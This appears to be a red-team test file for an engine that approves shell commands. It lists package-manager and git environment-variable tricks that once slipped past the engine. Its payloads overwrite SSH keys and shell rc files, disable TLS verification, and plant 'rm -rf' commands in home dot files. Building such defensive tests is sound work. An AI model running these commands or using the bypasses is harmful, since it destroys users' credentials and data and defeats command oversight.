"""cfg50: settings that name files or trust sources, whatever their spelling.

The family: a package manager reads each of its options from three places -- the line (`--report F`), its
configuration file (`report = F`) and its environment (`PIP_REPORT=F`, `npm_config_<key>`, `YARN_<SETTING>`,
`UV_<OPTION>`). The engine read the line's spelling and a hand-made list of variables, so `PIP_REPORT=~/.bashrc pip
install pip` (pip writes its JSON report over the file: live below, over the SSH key) was allowed.

Fixed:
- a program row's run `{env: ["PIP_*"], as: options, prepend: "--{PIP_}="}` reads every variable of the prefix as
  the long option its name spells (shell.Analyzer._named_options: `PIP_LOG_FILE` is `--log-file`, a no value the
  negation `--no-KEY`, a yes value the bare flag when the grammar reads it without a value), judged by what the
  option does on the line: pip (PIP_*), npm and pnpm (npm_config_*), yarn (YARN_*), uv (UV_*). PIP_REPORT,
  PIP_TARGET, PIP_SRC, PIP_CERT, PIP_CLIENT_CERT, PIP_EDITABLE, PIP_PROXY, PIP_KEYRING_PROVIDER, PIP_DEST,
  npm_config_cafile / https_proxy / store_dir, YARN_ENABLE_STRICT_SSL=false, YARN_HTTPS_PROXY, UV_KEYRING_PROVIDER,
  UV_TOOL_DIR / UV_PROJECT_ENVIRONMENT=~/.ssh ask (allowed).
- an `option` run's `default:` is the value of the option given as a flag: `npm install --no-strict-ssl` (cfg49's
  strict xfail) asks, as `--strict-ssl=false`; pnpm and yarn alike.
- TLS off through git's variable forms of -c: GIT_CONFIG_PARAMETERS ("'http.sslVerify'='false'", cfg49's strict
  xfail) and GIT_CONFIG_KEY_n/VALUE_n ask.
- pnpm's folder keys (store-dir, modules-dir, global-dir ...) in .npmrc and yarn's cacheFolder / globalFolder in
  .yarnrc.yml are settings that matter: an append of one asks.
- a dot file at the top of the home is `home_config` (fail closed; histories, .hushlogin and a few markers left
  out): `echo x > ~/.rpmmacros`, `~/.gemrc`, `~/.selected_editor` (sourced by sensible-editor: live below) ask.

Open: none (xf51 read pip.conf's / uv.toml's keys as the options they are, `cache-dir = ~/.ssh` as --cache-dir, and
gave uv's verbs the options they share: `uv run --keyring-provider subprocess x`; tests/redteam/test_xf51.py).
"""

from __future__ import annotations

import shutil
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from engine import Engine
from tests.redteam.conftest import home_intact
from tests.redteam.harm import Case, assert_verdict, policy_project, run_confined, verdict_cases


def _prepare(root: Path, _mp: pytest.MonkeyPatch) -> None:
    (root / "a.py").write_text("print(1)\n")
    (root / "requirements.txt").write_text("requests\n")


@pytest.fixture(scope="module")
def loaded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Engine]]:
    with policy_project(tmp_path_factory, "cfg50", "kind: ApprovalPolicy\n", _prepare) as project:
        yield project


_SQ_SSL = "GIT_CONFIG_PARAMETERS=\"'http.sslVerify'='false'\" git clone https://h.example/r"
PAYLOADS: dict[str, Case] = {
    # pip: PIP_<OPTION> is the option
    "pip-report-bashrc": ({}, "PIP_REPORT=~/.bashrc pip install pip"),
    "pip-report-key": ({}, "PIP_REPORT=~/.ssh/id_ed25519 pip install pip"),
    "pip-report-python-m": ({}, "PIP_REPORT=~/.bashrc python3 -m pip install pip"),
    "pip-report-exported": ({}, "export PIP_REPORT=~/.bashrc; pip install pip"),
    "pip-report-env": ({}, "env PIP_REPORT=~/.bashrc pip install pip"),
    "pip-report-venv": ({}, "PIP_REPORT=~/.profile .venv/bin/pip install pip"),
    "pip-report-policy": ({}, "PIP_REPORT=policies/deny.yaml pip install x"),
    "pip-log-policy": ({}, "PIP_LOG=policies/deny.yaml pip list"),
    "pip-target-ssh": ({}, "PIP_TARGET=~/.ssh pip install x"),
    "pip-src-policies": ({}, "PIP_SRC=policies pip install -e git+https://github.com/a/b#egg=b"),
    "pip-dest-ssh": ({}, "PIP_DEST=~/.ssh pip download x"),
    "pip-cert": ({}, "PIP_CERT=ca.pem pip install x"),
    "pip-client-cert": ({}, "PIP_CLIENT_CERT=c.pem pip install x"),
    "pip-editable": ({}, "PIP_EDITABLE=git+https://h.example/r pip install"),
    "pip-proxy-yes": ({}, "PIP_PROXY=1 pip install git+https://h.example/r"),
    "pip-keyring": ({}, "PIP_KEYRING_PROVIDER=subprocess pip install x"),
    # npm / pnpm: npm_config_<key>
    "npm-cafile": ({}, "npm_config_cafile=ca.pem npm i x"),
    "npm-no-strict-ssl": ({}, "npm install --no-strict-ssl"),
    "npm-strict-ssl-caps": ({}, "NPM_CONFIG_STRICT_SSL=false npm ci"),
    "pnpm-store-dir-env": ({}, "npm_config_store_dir=~/.ssh pnpm install"),
    "pnpm-no-strict-ssl": ({}, "pnpm install --no-strict-ssl"),
    "pnpm-strict-ssl-env": ({}, "npm_config_strict_ssl=false pnpm i"),
    # yarn: YARN_<SETTING>
    "yarn-strict-ssl-off": ({}, "YARN_ENABLE_STRICT_SSL=false yarn install"),
    "yarn-strict-ssl-off-bare": ({}, "YARN_ENABLE_STRICT_SSL=0 yarn"),
    "yarn-global-folder": ({}, "YARN_GLOBAL_FOLDER=~/.ssh yarn global add x"),
    "yarn-unsafe-http": ({}, "YARN_UNSAFE_HTTP_WHITELIST=h.example yarn"),
    # uv: UV_<OPTION> and its folders
    "uv-keyring": ({}, "UV_KEYRING_PROVIDER=subprocess uv sync"),
    "uv-tool-dir": ({}, "UV_TOOL_DIR=~/.ssh uv tool install x"),
    "uv-python-install-dir": ({}, "UV_PYTHON_INSTALL_DIR=~/.ssh uv python install"),
    "uv-project-env": ({}, "UV_PROJECT_ENVIRONMENT=~/.ssh uv sync"),
    # git: TLS off through the variable forms of -c
    "git-params-sslverify": ({}, _SQ_SSL),
    "git-params-old-form": ({}, "GIT_CONFIG_PARAMETERS=\"'http.sslVerify=false'\" git fetch"),
    "git-params-url-sslverify": ({}, "GIT_CONFIG_PARAMETERS=\"'http.https://h.example/.sslverify'='0'\" git fetch"),
    "git-config-count": ({}, "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=http.sslVerify GIT_CONFIG_VALUE_0=false git fetch"),
    # package managers' folder keys in their rc files
    "npmrc-store-dir": ({}, "echo 'store-dir=~/.ssh' >> .npmrc"),
    "npmrc-modules-dir": ({}, "echo 'modules_dir=/home/u/.ssh' >> .npmrc"),
    "yarnrc-cache-folder": ({}, "printf 'cacheFolder: ~/.ssh\\n' >> .yarnrc.yml"),
    "yarnrc-global-folder": ({}, "printf 'globalFolder: /tmp/x\\n' >> .yarnrc.yml"),
    # (xf51) a configuration's keys are its options; uv run's index options
    "pip-conf-cache-dir": (
        {},
        "printf '[global]\\ncache-dir = ~/.ssh\\n' > pip.conf; PIP_CONFIG_FILE=pip.conf pip install x",
    ),
    "uv-toml-cache-dir": ({}, "printf 'cache-dir = \"~/.ssh\"\\n' >> uv.toml; uv sync"),
    "uv-run-keyring": ({}, "uv run --keyring-provider subprocess x"),
    # dot files at the top of the home
    "home-rpmmacros": ({}, "echo '%__os_install_post %(rm -rf ~)' > ~/.rpmmacros"),
    "home-gemrc": ({}, "echo 'gem: --source http://h.example/' > ~/.gemrc"),
    "home-selected-editor": ({}, "printf 'rm -rf ~/.ssh\\n' > ~/.selected_editor"),
    "home-unknown-dotfile": ({}, "echo x > ~/.foorc"),
    "home-cp-dotfile": ({}, "cp a.py ~/.foorc"),
    "home-tee-dotfile": ({}, "echo x | tee -a ~/.wgetrc2"),
    "root-dotfile": ({}, "echo x > /root/.rpmmacros"),
}

NEAR_MISSES: dict[str, Case] = {
    # (fix50) a proxy is no untrusted source: TLS runs through it end to end (a CONNECT tunnel)
    "pip-proxy": ({}, "PIP_PROXY=http://h.example:8080 pip install x"),
    "pip-proxy-option": ({}, "pip install --proxy http://h.example:8080 x"),
    "npm-https-proxy": ({}, "npm_config_https_proxy=http://h.example:8080 npm i x"),
    "npm-proxy-option": ({}, "npm i x --proxy=http://h.example:8080"),
    "pnpm-proxy-env": ({}, "npm_config_https_proxy=http://h.example pnpm add x"),
    "yarn-https-proxy": ({}, "YARN_HTTPS_PROXY=http://h.example:8 yarn add x"),
    "pip-cache-dir-project": ({}, "pip install -r requirements.txt --cache-dir .cache/pip"),
    "pip-index-unset": ({}, "unset PIP_INDEX_URL; pip install x"),
    "pip-index-empty": ({}, "PIP_INDEX_URL= pip install x"),
    "pip-report-project": ({}, "pip install --report report.json ."),
    "pip-report-project-env": ({}, "PIP_REPORT=report.json pip install x"),
    "pip-timeout": ({}, "PIP_TIMEOUT=60 pip install x"),
    "pip-no-cache": ({}, "PIP_NO_CACHE_DIR=1 pip install x"),
    "pip-no-cache-off": ({}, "PIP_NO_CACHE_DIR=0 pip install x"),
    "pip-quiet-flags": ({}, "PIP_NO_INPUT=1 PIP_DISABLE_PIP_VERSION_CHECK=1 pip install -r requirements.txt"),
    "pip-user": ({}, "PIP_USER=1 pip install x"),
    "pip-require-venv": ({}, "PIP_REQUIRE_VIRTUALENV=true pip install x"),
    "pip-cache-tmp": ({}, "PIP_CACHE_DIR=/tmp/pipcache pip install x"),
    "pip-keyring-disabled": ({}, "PIP_KEYRING_PROVIDER=disabled pip install x"),
    "pip-pypi-index": ({}, "PIP_INDEX_URL=https://pypi.org/simple pip install x"),
    "pip-progress-off": ({}, "PIP_PROGRESS_BAR=off pip install x"),
    "npm-config-fund": ({}, "npm config set fund false"),
    "npmrc-fund": ({}, "echo 'fund=false' >> .npmrc"),
    "npm-fund-env": ({}, "npm_config_fund=false npm i"),
    "npm-progress-caps": ({}, "NPM_CONFIG_PROGRESS=false npm install"),
    "npm-loglevel": ({}, "npm_config_loglevel=warn npm ci"),
    "npm-cache-project": ({}, "npm_config_cache=.npm npm ci"),
    "npm-production": ({}, "NPM_CONFIG_PRODUCTION=true npm ci"),
    "npm-strict-ssl-on": ({}, "npm_config_strict_ssl=true npm ci"),
    "pnpm-install": ({}, "pnpm install"),
    "pnpm-store-project": ({}, "npm_config_store_dir=.pnpm-store pnpm install"),
    "yarn-telemetry": ({}, "YARN_ENABLE_TELEMETRY=0 yarn install"),
    "yarn-node-linker": ({}, "YARN_NODE_LINKER=node-modules yarn"),
    "yarn-immutable": ({}, "YARN_ENABLE_IMMUTABLE_INSTALLS=false yarn install"),
    "yarn-strict-ssl-on": ({}, "YARN_ENABLE_STRICT_SSL=true yarn"),
    "yarnrc-linker": ({}, "printf 'nodeLinker: node-modules\\n' >> .yarnrc.yml"),
    "uv-sync": ({}, "uv sync"),
    "uv-timeout": ({}, "UV_HTTP_TIMEOUT=60 uv sync"),
    "uv-offline": ({}, "UV_OFFLINE=1 uv sync"),
    "uv-frozen": ({}, "UV_FROZEN=1 uv sync"),
    "uv-cache-project": ({}, "UV_CACHE_DIR=.cache/uv uv sync"),
    "uv-project-env-venv": ({}, "UV_PROJECT_ENVIRONMENT=.venv uv sync"),
    "uv-no-cache-run": ({}, "UV_NO_CACHE=1 uv run pytest"),
    "uv-keyring-disabled": ({}, "UV_KEYRING_PROVIDER=disabled uv sync"),
    "git-params-sslverify-on": ({}, "GIT_CONFIG_PARAMETERS=\"'http.sslVerify'='true'\" git fetch"),
    "git-params-user": ({}, "GIT_CONFIG_PARAMETERS=\"'user.name'='x'\" git fetch"),
    "home-hushlogin": ({}, "touch ~/.hushlogin; echo x > ~/.hushlogin"),
    "home-mkdir-dot": ({}, "mkdir -p ~/.foo"),
    "home-list": ({}, "ls -la ~"),
    "home-read-dotfile": ({}, "cat ~/.gitconfig"),
    "home-rm-cache": ({}, "rm -f ~/.cache/x"),
    "home-top-file": ({}, "printf x > ~/notes2.txt"),
    "home-cp-into": ({}, "cp a.py ~"),
}


@pytest.mark.parametrize(("case", "allowed", "session"), verdict_cases(PAYLOADS, NEAR_MISSES))
def test_cfg50_verdicts(loaded: tuple[Path, Engine], case: Case, allowed: bool, session: str) -> None:
    assert_verdict(loaded, case, allowed, session)


# -- the harm, live ------------------------------------------------------------------------------------------------
def test_pip_report_variable_overwrites_the_key_live(tmp_path: Path, loaded: tuple[Path, Engine]) -> None:
    """PIP_REPORT is `--report`: pip writes its JSON report over the file it names (here the SSH key: still a
    file, its text gone), offline (`pip install pip`, already installed: nothing fetched). The engine's verdict on
    the same line is not allow."""
    offline = "PIP_NO_INDEX=1 PIP_DISABLE_PIP_VERSION_CHECK=1"
    payload = f"PIP_REPORT=~/.ssh/id_ed25519 {offline} {sys.executable} -m pip install pip"
    home, _, out = run_confined(tmp_path, payload)
    key = (home / ".ssh" / "id_ed25519").read_text()
    assert key != "secret key\n" and '"pip_version"' in key, out
    assert loaded[1].check("PIP_REPORT=~/.ssh/id_ed25519 python3 -m pip install pip").decision != "allow"


@pytest.mark.skipif(shutil.which("sensible-editor") is None, reason="sensible-editor is not installed")
def test_selected_editor_is_sourced_live(tmp_path: Path, loaded: tuple[Path, Engine]) -> None:
    """~/.selected_editor, a dot file at the home's top, is shell code sensible-editor sources (no VISUAL):
    writing one deletes the key at the next `sensible-editor f`."""
    home, _, out = run_confined(
        tmp_path, "printf 'rm -rf ~/.ssh\\n' > ~/.selected_editor; EDITOR=true sensible-editor f"
    )
    assert not home_intact(home) and not (home / ".ssh").exists(), out
    assert loaded[1].check("printf 'rm -rf ~/.ssh\\n' > ~/.selected_editor").decision != "allow"


@pytest.mark.parametrize(
    ("command", "key", "expected"),
    [
        ("GIT_CONFIG_PARAMETERS=\"'http.sslVerify'='false'\" git config --get http.sslverify", None, "false"),
        (
            "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=http.sslVerify GIT_CONFIG_VALUE_0=false "
            "git config --get http.sslverify",
            None,
            "false",
        ),
        ("npm_config_strict_ssl=false npm config get strict-ssl", "npm", "false"),
        ("npm_config_store_dir=/x/y npm config get store-dir", "npm", "/x/y"),
    ],
    ids=["git-params", "git-count", "npm-strict-ssl", "npm-store-dir"],
)
def test_variable_spellings_are_read_live(tmp_path: Path, command: str, key: str | None, expected: str) -> None:
    """The variable forms are what the programs read: git's -c in its environment, npm's settings as
    npm_config_<key> (the value each prints is the setting in force for an install)."""
    program = key or "git"
    if shutil.which(program) is None:
        pytest.skip(f"{program} is not installed")
    _, _, out = run_confined(tmp_path, command)
    assert expected in out.splitlines(), out


def test_named_option_spelling(loaded: tuple[Path, Engine]) -> None:
    """The option a variable stands for is judged as written on the line (the commands the engine reads show it)."""
    engine = loaded[1]
    for variable, option in (("PIP_LOG_FILE", "--log-file="), ("PIP_REPORT", "--report=")):
        verdict = engine.check(f"{variable}=~/.bashrc pip install x")
        assert any(option in m.command for m in verdict.matches), (variable, verdict.matches)
